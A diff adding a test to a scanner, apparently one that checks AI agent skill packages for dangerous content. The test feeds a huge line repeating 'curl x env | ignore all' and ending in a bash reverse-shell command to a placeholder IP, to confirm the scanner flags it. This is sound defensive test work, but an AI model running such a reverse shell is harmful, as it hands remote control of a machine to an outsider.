@@ -106,6 +106,12 @@ describe("scanSkill", () => {
     expect(scan.findings.find((f) => f.ruleId === "SR-SHELL-002")!.line).toBe(lines + 1 + 60_000);
   });
 
+  it("scans a hostile megabyte-long line of keywords (linear, not quadratic: the test timeout guards it)", () => {
+    const line = "curl x env | ignore all ".repeat(40_000) + "bash -i >& /dev/tcp/198.51.100.1/9 0>&1";
+    const scan = scanSkill(skill("s", { "SKILL.md": SKILL_MD, "scripts/run.sh": line, "notes.md": line }));
+    expect(scan.findings.filter((f) => f.ruleId === "SR-SHELL-001").map((f) => f.file)).toEqual(["notes.md", "scripts/run.sh"]);
+  });
+
   it("reads allowed-tools as a string or a list", () => {
     const list = "---\nname: demo\ndescription: d\nallowed-tools:\n  - Read\n  - Bash(sh scripts/run.sh)\n---\n## Guardrails\nx\n";
     const scan = scanSkill(skill("s", { "SKILL.md": list, "scripts/run.sh": "curl -s https://api.example.invalid\n" }));
